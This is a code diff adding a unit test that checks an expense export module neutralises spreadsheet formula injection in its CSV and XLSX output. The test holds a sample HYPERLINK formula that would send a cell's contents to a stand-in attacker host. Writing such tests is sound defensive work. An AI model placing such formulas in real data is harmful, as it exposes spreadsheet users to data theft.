@@ -212,3 +212,16 @@ class TestReceptionExport(ReceptionCase):
             self.wizard(expense_ids=[(6, 0, (foreign | self.tea_expense).ids)]).action_create_moves()
         rows = self.wizard(date_from="2025-03-01")._expenses(("approved",))
         self.assertNotIn(foreign, rows)
+
+    def test_a_formula_in_a_text_stays_text(self):
+        purpose = '=HYPERLINK("http://evil.example/?leak="&A1,"Receipt")'
+        expense = self.expense(self.tea, 5, "2025-03-07", purpose=purpose)
+        expense.action_confirm()
+        wizard = self.wizard(expense_ids=[(6, 0, expense.ids)])
+        text = self.download(wizard, "action_export_csv").raw.decode("utf-8-sig")
+        [row] = csv.DictReader(io.StringIO(text))
+        self.assertEqual(row["Purpose"], "'" + purpose)
+        sheet = openpyxl.load_workbook(io.BytesIO(self.download(wizard, "action_export_xlsx").raw)).active
+        header = [cell.value for cell in sheet[1]]
+        cell = sheet.cell(row=2, column=header.index("Purpose") + 1)
+        self.assertEqual((cell.value, cell.data_type), (purpose, "s"))
